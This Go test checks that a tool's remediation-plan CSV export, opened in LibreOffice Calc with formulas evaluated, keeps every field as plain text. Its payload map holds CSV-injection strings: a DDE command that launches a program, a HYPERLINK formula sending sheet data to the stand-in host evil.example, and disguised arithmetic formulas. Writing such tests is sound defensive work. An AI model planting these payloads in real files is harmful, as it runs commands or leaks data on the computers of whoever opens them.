package main

import (
	"encoding/csv"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/assay-dev/assay/internal/render/rendertest"
)

// The plan's CSV opened in a real spreadsheet, as the person it is sent
// to would open it: LibreOffice Calc reads it with formulas evaluated (its
// setting a person is most likely to have on), and not one cell may become
// a formula. A vendor's name, an owner, an action, a reason and a
// milestone typed by whoever can reach the plan are each a formula a
// spreadsheet would run: a link that sends the sheet's contents away, a
// DDE call, a sum; behind spaces, a tab and full-width signs too. Each
// must arrive as the text it was, whole.
func TestPlanCSVOpensInCalcWithoutAFormula(t *testing.T) {
	if testing.Short() {
		t.Skip("opens the CSV in LibreOffice Calc; skipped with -short")
	}
	soffice := rendertest.NeedCalc(t)
	payloads := map[string]string{
		"subject":   `=cmd|' /C calc'!A0`,
		"owner":     `=HYPERLINK("http://evil.example/?"&A1,"Sam")`,
		"action":    `+SUM(1,2)`,
		"reason":    `  =1+1`,
		"milestone": `-2+3`,
		"approver":  "＝1+1",
		"accept":    `@SUM(1;2)`,
	}
	s := newCLISession(t)
	id := strings.TrimSpace(s.ok("new", "-q", "vendor-security-screen", "-s", payloads["subject"], "--date", "2026-01-31"))
	s.ok("answer", id, "-f", filepath.Join("testdata", "worst", "vendor-security-screen.yaml"))
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(s.ok("plan", id, "--csv", "--as-of", "2026-02-01"), "\uFEFF"))).ReadAll()
	if err != nil || len(rows) < 3 {
		t.Fatalf("the plan's CSV has %d rows: %v", len(rows), err)
	}
	first, second := rows[1][2], rows[2][2]
	s.ok("plan", id, "--item", first, "--owner", payloads["owner"], "--action", payloads["action"],
		"--due", "2026-06-30", "--reason", payloads["reason"], "--milestone", "2026-03-01 "+payloads["milestone"])
	s.ok("plan", id, "--item", second, "--accept-approver", payloads["approver"],
		"--accept-reason", payloads["accept"], "--accept-expires", "2026-12-31")

	dir := t.TempDir()
	in := filepath.Join(dir, "plan.csv")
	s.ok("plan", id, "--csv", "--as-of", "2026-02-01", "-o", in)
	// The CSV import's options: comma, double quote, UTF-8, from line 1,
	// US English, quoted fields as text off, special numbers detected,
	// and the thirteenth, evaluate formulas, on.
	rendertest.Run(t, soffice, "--headless", "--norestore", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,false,true",
		"--convert-to", "fods", "--outdir", dir, in)
	sheet, err := os.Open(filepath.Join(dir, "plan.fods"))
	if err != nil {
		t.Fatalf("LibreOffice did not write the sheet: %v", err)
	}
	defer sheet.Close()
	cells := calcCells(t, sheet)
	if !cellsHold(cells, "Acceptance reason") || !cellsHold(cells, rows[len(rows)-1][2]) {
		t.Fatalf("the sheet does not hold the CSV's header and last row: %v", cells)
	}
	texts := make([]string, 0, len(cells))
	for _, c := range cells {
		if c.formula != "" {
			t.Errorf("a cell became the formula %q (shown as %q)", c.formula, c.text)
		}
		texts = append(texts, c.text)
	}
	all := strings.Join(texts, "\n")
	for field, p := range payloads {
		if !strings.Contains(all, strings.TrimSpace(p)) {
			t.Errorf("the %s %q is not in any cell as text", field, p)
		}
	}
}

// cellsHold reports whether a cell shows exactly text.
func cellsHold(cells []calcCell, text string) bool {
	for _, c := range cells {
		if c.text == text {
			return true
		}
	}
	return false
}

// calcCell is a cell of a flat OpenDocument sheet: its formula, if the
// spreadsheet took it for one, and the text it shows.
type calcCell struct {
	formula, text string
}

// calcCells reads every cell of a flat OpenDocument spreadsheet: the
// text of its paragraphs, one a line, with the spaces and tabs the format
// writes as elements of their own.
func calcCells(t *testing.T, r io.Reader) []calcCell {
	t.Helper()
	const (
		table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
		text  = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
	)
	var cells []calcCell
	var cur *calcCell
	inPara := false
	d := xml.NewDecoder(r)
	for {
		tok, err := d.Token()
		if err == io.EOF {
			return cells
		}
		if err != nil {
			t.Fatalf("the sheet is not XML: %v", err)
		}
		switch e := tok.(type) {
		case xml.StartElement:
			switch {
			case e.Name.Space == table && e.Name.Local == "table-cell":
				cells = append(cells, calcCell{})
				cur = &cells[len(cells)-1]
				for _, a := range e.Attr {
					if a.Name.Space == table && a.Name.Local == "formula" {
						cur.formula = a.Value
					}
				}
			case cur == nil || e.Name.Space != text:
			case e.Name.Local == "p":
				if inPara = true; cur.text != "" {
					cur.text += "\n"
				}
			case e.Name.Local == "s":
				n := 1
				for _, a := range e.Attr {
					if a.Name.Local == "c" {
						n, _ = strconv.Atoi(a.Value)
					}
				}
				cur.text += strings.Repeat(" ", n)
			case e.Name.Local == "tab":
				cur.text += "\t"
			case e.Name.Local == "line-break":
				cur.text += "\n"
			}
		case xml.EndElement:
			switch {
			case e.Name.Space == table && e.Name.Local == "table-cell":
				cur = nil
			case e.Name.Space == text && e.Name.Local == "p":
				inPara = false
			}
		case xml.CharData:
			if cur != nil && inPara {
				cur.text += string(e)
			}
		}
	}
}
